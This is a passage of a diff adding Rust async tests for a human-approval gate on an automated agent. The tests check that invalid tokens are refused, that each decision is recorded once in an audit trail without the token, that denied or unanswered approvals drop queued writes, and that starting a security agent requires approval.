+    for (token, reason) in [
+        ("", "yes"),
+        ("guess", "yes"),
+        ("bens-own-token-0123456789", "yes"),
+        ("anas-own-token-0123456789", "  "),
+    ] {
+        let refused = command(&rig.handle, decide(&id, true, token, reason)).await;
+        let expected = matches!(
+            refused,
+            Err(Refused::Forbidden { .. } | Refused::InvalidInput { .. })
+        );
+        assert!(expected, "{token} {refused:?}");
+    }
+    assert_eq!(rig.writes(), 0);
+    let ana = "anas-own-token-0123456789";
+    command(&rig.handle, decide(&id, true, ana, "looked at it"))
+        .await
+        .unwrap();
+    rig.published().await;
+    assert_eq!(rig.hub.lock().unwrap().comments.len(), 1);
+    let again = command(&rig.handle, decide(&id, false, ana, "no")).await;
+    assert!(
+        matches!(again, Err(Refused::InvalidInput { .. })),
+        "decided once"
+    );
+    let denied = held("two", &"b".repeat(40)).await;
+    command(&rig.handle, decide(&denied, false, ana, "not this one"))
+        .await
+        .unwrap();
+    let dropped = rig.outbox().await;
+    let dropped: Vec<_> = dropped
+        .iter()
+        .filter(|e| e.state == OutboxState::Dropped)
+        .collect();
+    assert!(!dropped.is_empty());
+    assert!(
+        dropped[0]
+            .note
+            .raw()
+            .contains("denied by ana: not this one")
+    );
+    let before = rig.writes();
+    rig.published().await;
+    assert_eq!(rig.writes(), before);
+    // Who decided and why is in the audit trail; the token is nowhere.
+    let audit = support::all_bytes(rig.folder.path());
+    let audit: Vec<u8> = audit.into_values().flatten().collect();
+    assert!(support::contains(&audit, b"looked at it"));
+    assert!(!support::contains(&audit, ana.as_bytes()));
+    // An agent like it is not simply started either.
+    let start = Command::SetAgent {
+        agent: "security-agent".into(),
+        on: true,
+    };
+    let Err(Refused::ApprovalRequired { approval, .. }) = command(&rig.handle, start).await else {
+        panic!("started")
+    };
+    let stop = Command::SetAgent {
+        agent: "security-agent".into(),
+        on: false,
+    };
+    command(&rig.handle, stop).await.unwrap();
+    assert_eq!(rig.handle.core().stopped.lock().unwrap().len(), 1);
+    command(&rig.handle, decide(&approval, true, ana, "needed again"))
+        .await
+        .unwrap();
+    assert!(rig.handle.core().stopped.lock().unwrap().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_nobody_decides_on_is_denied() {
+    let workspace = guarded();
+    let rig = Rig::of(
+        Some(workspace.path().to_path_buf()),
+        &[("GITHUB_BSU_TOKEN", TOKEN)],
+        |s| s.approvals.wait_ms = 1,
+    )
+    .await;
+    let (_, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
+    rig.run(&answer).await;
+    let over = async {
+        while rig.approvals().await[0].state == ApprovalState::Waiting {
+            rig.handle.core().outbox.notify_one();
+            rig.handle.snapshots().changed().await.unwrap();
+        }
+    };
+    tokio::time::timeout(Duration::from_secs(10), over)
+        .await
+        .unwrap();
+    assert_eq!(rig.approvals().await[0].state, ApprovalState::Expired);
+    assert!(
+        rig.outbox()
+            .await
+            .iter()
+            .all(|e| e.state == OutboxState::Dropped)
+    );
+    assert_eq!(rig.writes(), 0);
+}
